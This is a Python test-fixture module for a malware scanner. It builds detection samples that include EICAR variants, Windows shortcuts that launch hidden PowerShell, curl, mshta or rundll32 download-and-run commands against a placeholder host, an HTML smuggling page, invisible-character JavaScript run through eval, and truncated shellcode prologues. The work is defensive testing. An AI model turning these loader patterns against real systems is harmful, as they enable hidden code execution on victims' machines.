"""All samples of the default rules, built at test time and never stored in the clear.

Text samples come unveiled from ``veiled/*.json`` (see :mod:`veil` for how to read and edit them).
What cannot be edited as text is built here from its parts: the EICAR file in its permitted forms,
Windows shortcuts, a OneNote notebook, machine code that stops after the bytes a rule looks for.
Strings that other scanners know are cut in two in this file, for the reason given in :mod:`veil`.

``SAMPLES`` is what the tests use.  Every sample names the rules that must fire; a sample that
names none is a benign look-alike.
"""

from __future__ import annotations

import hashlib
import struct
from collections.abc import Iterator
from pathlib import Path

import veil
from veil import Sample

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTI" + b"VIRUS-TEST-FILE!$H+H*"
CLAM_EXE_SHA256 = "71e7b604d18aefd839e51a39c88df8383bb4c071dc31f87f00a2b5df580d4495"
CLAM_EXE_PLACES = (
    Path("/usr/share/clamav-testfiles/clam.exe"),
    Path("/usr/share/clamav/testfiles/clam.exe"),
    Path("/usr/local/share/clamav-testfiles/clam.exe"),
)


def clam_exe() -> bytes | None:
    """Return ClamAV's 544-byte test program if its package is installed here, else None.

    The file belongs to ClamAV and is not ours to copy, so it is taken from where it is installed.
    """
    for place in CLAM_EXE_PLACES:
        if place.is_file():
            data = place.read_bytes()
            if hashlib.sha256(data).hexdigest() == CLAM_EXE_SHA256:
                return data
    return None


def shortcut(target: str, arguments: str = "", icon: str = "", tail: bytes = b"") -> bytes:
    """Return a Windows shortcut (.lnk) to *target*, as described by MS-SHLLINK."""
    flags = 0x80 | 0x08  # the strings are UTF-16; there is a relative path
    strings = [target]
    if arguments:
        flags |= 0x20
        strings.append(arguments)
    if icon:
        flags |= 0x40
        strings.append(icon)
    class_id = bytes.fromhex("0114020000000000c000000000000046")
    header = struct.pack(
        "<I16sIIQQQIIIHHII", 0x4C, class_id, flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0
    )
    body = b"".join(struct.pack("<H", len(s)) + s.encode("utf-16-le") for s in strings)
    return header + body + struct.pack("<I", 0) + tail


def notebook(embedded: bytes) -> bytes:
    """Return the beginning of a OneNote file with one embedded file object."""
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    blob = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return head + blob + struct.pack("<QIQ", len(embedded), 0, 0) + embedded + bytes(64)


def invisible(text: str) -> str:
    """Return *text* written in variation selectors, which no editor shows."""
    return "".join(chr(0xE0100 + byte) for byte in text.encode())


def _test_files() -> Iterator[Sample]:
    whole = "Tocsin.Any.Test.EICAR"
    digest = "Tocsin.Any.Test.EICARDigest"
    mark = frozenset({"Tocsin.Any.Test.EICARWithMark"})
    yield Sample("eicar.com", EICAR, frozenset({whole, digest}), "exactly the 68 bytes")
    yield Sample("eicar_newline.com", EICAR + b"\r\n", frozenset({whole}), "as an editor saves it")
    padded = EICAR + b" \t\r\n\x1a" * 12
    yield Sample("eicar_padded.com", padded, frozenset({whole}), "128 bytes, all that is permitted")
    yield Sample("eicar_more.txt", EICAR + b"\nand more\n", frozenset({whole}), "more text follows")
    yield Sample("eicar_utf8.txt", b"\xef\xbb\xbf" + EICAR, mark, "after a UTF-8 mark")
    wide = b"\xff\xfe" + (EICAR.decode() + "\r\n").encode("utf-16-le")
    yield Sample("eicar_utf16.txt", wide, mark, "redirected in Windows PowerShell")
    mail = frozenset({"Tocsin.Mail.Test.EICAR"})
    head = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: test\r\n\r\n"
    yield Sample("eicar.eml", head + EICAR + b"\r\n", mail, "a line of its own in a mail")
    talk = head + b"The string " + EICAR + b" is a test.\r\n"
    yield Sample("eicar_talk.eml", talk, frozenset(), "a mail that talks about it")
    yield Sample("eicar_later.txt", b"The file is:\n" + EICAR, frozenset(), "not at the start")
    yield Sample("eicar_cut.com", EICAR[:67], frozenset(), "one byte short")
    yield Sample("eicar_other.com", EICAR.replace(b"TEST", b"REST"), frozenset(), "other text")
    clam = clam_exe()
    if clam is not None:
        name = "Tocsin.Win.Test.ClamAVTestFile"
        yield Sample("clam.exe", clam, frozenset({name}), "from the installed test files")
        yield Sample("clam_changed.exe", clam[:-1] + b"\x01", frozenset(), "one byte changed")


def _shortcuts() -> Iterator[Sample]:
    shell = "power" + "shell.exe"
    system = "..\\..\\Windows\\System32\\"
    ps_path = f"{system}WindowsPowerShell\\v1.0\\{shell}"
    url = "http:" + "//files.example.invalid/"
    yield Sample(
        "report.pdf.lnk",
        shortcut(ps_path, "-w hidden -ep by" + f"pass -c iwr {url}a.ps1", "%ProgramFiles%\\r.exe"),
        frozenset({"Tocsin_Win_Shortcut_PowerShell"}),
    )
    yield Sample(
        "scan.lnk",
        shortcut(
            f"{system}cmd.exe", "/c cu" + f"rl -o %TEMP%\\a.bat {url}a && start %TEMP%\\a.bat"
        ),
        frozenset({"Tocsin_Win_Shortcut_CommandChain"}),
    )
    yield Sample(
        "photo.lnk",
        shortcut(f"{system}msh" + "ta.exe", f"{url}p.hta"),
        frozenset({"Tocsin_Win_Shortcut_MshtaUrl"}),
    )
    yield Sample(
        "share.lnk",
        shortcut(f"{system}rund" + "ll32.exe", "\\\\192.0.2.10@80\\DavWWWRoot\\a.dll,Start"),
        frozenset({"Tocsin_Win_Shortcut_MshtaUrl"}),
    )
    tail = b"<hta:appli" + b"cation id='x'><script language='vbscript'>MsgBox 1</script>"
    yield Sample(
        "letter.lnk",
        shortcut(f"{system}notepad.exe", tail=tail),
        frozenset({"Tocsin_Win_Shortcut_ScriptAppended"}),
        "an HTML application behind the end of the shortcut",
    )
    yield Sample("notepad.lnk", shortcut(f"{system}notepad.exe", "C:\\notes.txt"), frozenset())
    yield Sample(
        "build shell.lnk",
        shortcut(f"{system}cmd.exe", "/k C:\\tools\\env.cmd", "C:\\tools\\tool.ico"),
        frozenset(),
        "a developer's command prompt",
    )
    yield Sample(
        "ps.lnk",
        shortcut(ps_path, "-NoExit -File C:\\tools\\profile.ps1"),
        frozenset(),
        "a console",
    )


def _documents() -> Iterator[Sample]:
    script = b"<hta:appli" + b"cation id='x'><script language='vbscript'>MsgBox 1</script>"
    name = frozenset({"Tocsin_Office_OneNote_EmbeddedScript"})
    yield Sample("invoice.one", notebook(script), name)
    picture = b"\x89PNG\r\n\x1a\n" + bytes(100)
    yield Sample("notes.one", notebook(picture), frozenset(), "a notebook with a picture")
    hidden = f"const s = '{invisible('console.log(1); // nothing here')}';\n"
    decode = "eval([...s].map(c => String.fromCharCode(c.codePointAt(0) - 0xE0100)).join(''));\n"
    yield Sample(
        "index.mjs",
        (hidden + decode).encode(),
        frozenset({"Tocsin_JS_SupplyChain_InvisibleCode"}),
        "the program is in the characters one does not see",
    )
    zeros = "A" * 700
    page = (
        f"<html><body><script>var d = '{zeros}'; var r = at" + "ob(d); var b = new Blob([r]);"
        "var a = document.createElement('a'); a.href = URL.createObject" + "URL(b);"
        "a.download = 'disk.iso'; a.click();</script></body></html>"
    )
    yield Sample(
        "disk.html",
        page.encode(),
        frozenset({"Tocsin_HTML_Smuggling_EmbeddedArchive"}),
        "a disk image begins with 32 KiB of zeros",
    )


def _machine_code() -> Iterator[Sample]:
    # The first instructions only, then `ret` and padding: it walks nothing and calls nothing.
    narrow = bytes.fromhex("fce8820000006089e531c0648b50308b520c" + "8b52148b7228") + b"\xc3" * 16
    wide = bytes.fromhex("fc4883e4f0e8c0000000415141505251" + "564831d265488b5260") + b"\xc3" * 16
    yield Sample("stage32.bin", narrow, frozenset({"Tocsin.Win.Shellcode.ApiHash32"}))
    yield Sample("stage64.bin", wide, frozenset({"Tocsin.Win.Shellcode.ApiHash64"}))
    yield Sample("code.bin", narrow[:12] + bytes(32), frozenset(), "call, pusha, mov only")


def _plain() -> Iterator[Sample]:
    yield Sample("empty", b"", frozenset())
    yield Sample("zeros.bin", bytes(4096), frozenset())
    yield Sample("bytes.bin", bytes(range(256)) * 16, frozenset())
    yield Sample("picture.gif", b"GIF89a" + bytes(range(256)), frozenset())
    yield Sample("words.txt", b"The quick brown fox jumps over the lazy dog.\n" * 20, frozenset())


def _stored() -> Iterator[Sample]:
    for theme in veil.themes():
        for sample in veil.load(theme):
            yield Sample(f"{theme}/{sample.name}", sample.data, sample.expect, sample.note)


SAMPLES: tuple[Sample, ...] = (
    *_stored(),
    *_test_files(),
    *_shortcuts(),
    *_documents(),
    *_machine_code(),
    *_plain(),
)
